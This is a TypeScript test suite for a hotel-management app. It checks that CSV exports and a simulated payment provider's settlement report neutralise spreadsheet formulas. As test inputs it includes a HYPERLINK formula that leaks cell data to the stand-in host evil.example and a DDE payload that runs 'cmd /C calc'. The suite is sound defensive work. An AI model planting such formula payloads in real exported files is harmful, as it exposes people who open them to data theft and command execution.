// CSV injection: no CSV Keepr writes (exports, the settlement report) lets a
// spreadsheet run a cell as a formula. String cells starting with = + - @
// tab or CR get a leading '; numbers, and strings that are only a number
// (money as node-postgres returns it, "-5000"), stay as they are.
import { mkdtempSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { Readable } from "node:stream";
import { text } from "node:stream/consumers";
import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import express from "express";
import { createToken, fetchSettlementCsv } from "../../payments/simulated/client.ts";
import { createSimulatedProvider, type SimulatedProvider } from "../../payments/simulated/service.ts";
import { csvDocument, csvStream, neutraliseCell } from "../../core/csv.ts";
import { actAs, createTestDatabase, inCommit, type TestDatabase } from "../helpers/db.ts";
import { newOutbox, runDueJobs } from "../helpers/jobs.ts";
import { addDays, book, createHotel, localDate, type Hotel } from "../helpers/booking.ts";

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';

describe("neutraliseCell", () => {
  it.each([
    [hyperlink, `'${hyperlink}`],
    ["+1+1", "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1,1)", "'@SUM(1,1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["\uFF1D1+1", "'\uFF1D1+1"],
    ["-", "'-"],
    ["-1e5", "'-1e5"],
    ["- 12", "'- 12"],
  ])("%j becomes %j", (value, written) => {
    expect(neutraliseCell(value)).toBe(written);
  });

  it.each(["-12.50", "-5000", "0", "12.5", "Ada Lovelace", "a=b", "", " =1", "2030-01-01", "2030-01-01T10:00:00.000Z"])("%j stays as it is", (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it("both writers (stream and document) quote, neutralise strings and leave numbers alone", async () => {
    const records = [{ name: hyperlink, amount: "-5000", count: -3, big: -12n, when: new Date("2030-01-02T03:04:05Z"), ok: true, none: null }];
    const document = csvDocument(records);
    const stream = csvStream();
    const streamed = text(Readable.from(records).pipe(stream));
    expect(await streamed).toBe(document);
    expect(parse(document, { columns: true })).toEqual([
      { name: `'${hyperlink}`, amount: "-5000", count: "-3", big: "-12", when: "2030-01-02T03:04:05.000Z", ok: "true", none: "" },
    ]);
  });
});

describe("exports", () => {
  let db: TestDatabase;
  let h: Hotel;
  const exportDir = mkdtempSync(path.join(tmpdir(), "keepr-csv-injection-"));
  beforeAll(async () => {
    db = await createTestDatabase();
    h = await createHotel(db.ownerPool, { units: 2 });
  });
  afterAll(async () => {
    await db?.drop();
  });

  async function exportRows(kind: string, from: string, to: string): Promise<Array<Record<string, string>>> {
    const { id } = await inCommit(db.ownerPool, async (c) => {
      await actAs(c, { role: "keepr_staff", userId: h.manager });
      return (await c.query("select id from app_public.request_export($1, $2, $3, $4)", [h.propertyId, kind, from, to])).rows[0];
    });
    await runDueJobs(db, { EXPORT_DIR: exportDir, OUTBOX_DIR: newOutbox() });
    const done = (await db.ownerPool.query("select status, file_key from app_public.exports where id = $1", [id])).rows[0];
    expect(done.status).toBe("done");
    return parse(readFileSync(path.join(exportDir, done.file_key), "utf8"), { columns: true });
  }

  it("a guest named like a formula is written as text in the reservations and guests exports", async () => {
    const arrival = localDate(h.timeZone, 5);
    await inCommit(db.ownerPool, async (c) => {
      await actAs(c, { role: "keepr_staff", userId: h.frontDesk });
      await book(c, h.ratePlanId, arrival, addDays(arrival, 2));
    });
    await db.ownerPool.query("update app_public.guests set full_name = $2 where property_id = $1", [h.propertyId, hyperlink]);

    const reservations = await exportRows("reservations", arrival, addDays(arrival, 1));
    expect(reservations).toHaveLength(1);
    expect(reservations[0]).toMatchObject({ guest: `'${hyperlink}`, total_amount: "200.00", status: "confirmed" });
    const guests = await exportRows("guests", arrival, addDays(arrival, 1));
    expect(guests[0]).toMatchObject({ full_name: `'${hyperlink}`, stays: "1" });
  });

  it("the ledger export keeps negative amounts as numbers and neutralises a formula in a description", async () => {
    await db.ownerPool.query(
      `select app_private.post_entry($1, 'adjustment', null, $2, $3,
         jsonb_build_array(jsonb_build_object('purpose', 'guest_receivable', 'amount', 1250, 'currency', 'EUR'),
                           jsonb_build_object('purpose', 'room_revenue', 'amount', -1250, 'currency', 'EUR')))`,
      [h.propertyId, `csv-${randomUUID()}`, "-1+1"],
    );
    const today = localDate(h.timeZone, 0);
    const rows = await exportRows("ledger", today, today);
    const mine = rows.filter((r) => r.description === "'-1+1");
    expect(mine.map((r) => r.amount).sort()).toEqual(["-12.50", "12.50"]); // in euros: a negative amount stays a number
    expect(rows.some((r) => r.description === "-1+1")).toBe(false);
    expect(rows.reduce((sum, r) => sum + Number(r.amount), 0)).toBe(0);
  });
});

describe("the simulated provider's settlement report", () => {
  let db: TestDatabase;
  let provider: SimulatedProvider;
  let server: Server;
  let baseUrl: string;
  const apiKey = "sk_test_csv_0123456789abcdef";
  beforeAll(async () => {
    db = await createTestDatabase();
    provider = await createSimulatedProvider({ pool: db.ownerPool, webhookSecret: "whsec_test_csv_0123456789", apiKey, failureControl: true });
    const app = express();
    app.use("/simulated-provider", provider.router);
    server = createServer(app);
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/simulated-provider`;
  });
  afterAll(async () => {
    await provider?.stop();
    await new Promise<void>((resolve) => {
      server?.close(() => resolve());
      server?.closeAllConnections();
    });
    await db?.drop();
  });

  it("neutralises a formula in a reference; a refund's negative amount stays a number", async () => {
    const call = async (p: string, body: unknown) => {
      const res = await fetch(`${baseUrl}${p}`, {
        method: "POST",
        headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json", "idempotency-key": randomUUID() },
        body: JSON.stringify(body),
      });
      expect(res.status).toBe(200);
      return (await res.json()) as { id: string; captured_at: string };
    };
    const token = await createToken(baseUrl, { number: "4242424242424242", exp_month: 12, exp_year: new Date().getUTCFullYear() + 1, cvc: "123" });
    const charge = await call("/v1/charges", { token: token.id, amount: 10_000, currency: "EUR", capture: true, reference: hyperlink });
    const refund = await call("/v1/refunds", { charge: charge.id, amount: 2_500, reference: "@SUM(1,1)" });
    const rows = parse(await fetchSettlementCsv(baseUrl, charge.captured_at.slice(0, 10), { apiKey }), { columns: true }) as Array<Record<string, string>>;
    expect(rows.find((r) => r.id === charge.id)).toMatchObject({ amount: "10000", net: "9835", reference: `'${hyperlink}` });
    expect(rows.find((r) => r.id === refund.id)).toMatchObject({ amount: "-2500", net: "-2500", reference: "'@SUM(1,1)" });
  });
});
